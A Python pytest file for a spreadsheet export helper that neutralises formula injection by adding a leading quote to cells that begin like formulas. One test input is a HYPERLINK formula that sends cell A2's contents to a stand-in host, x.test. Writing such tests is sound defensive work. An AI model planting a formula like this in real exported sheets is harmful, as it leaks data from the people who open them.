"""Export cells: text a spreadsheet would run as a formula is neutralised, nothing else changes."""

from __future__ import annotations

import pytest
from openpyxl import Workbook

from core.spreadsheet_cells import append_xlsx_row, safe_cell


@pytest.mark.parametrize(
    "text", ["=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x.test/?"&A2,"Click")']
)
def test_text_starting_like_a_formula_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["王师傅", "Tech 01", "", None, 0, -1.5, 0.4, True, "a=b"])
def test_other_values_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_an_excel_row_holds_strings_never_formulas():
    sheet = Workbook().active
    append_xlsx_row(sheet, ["name", "=1+1", 0.5, None])
    cells = list(sheet[1])
    assert [c.data_type for c in cells[:3]] == ["s", "s", "n"]
    assert cells[1].value == "'=1+1"
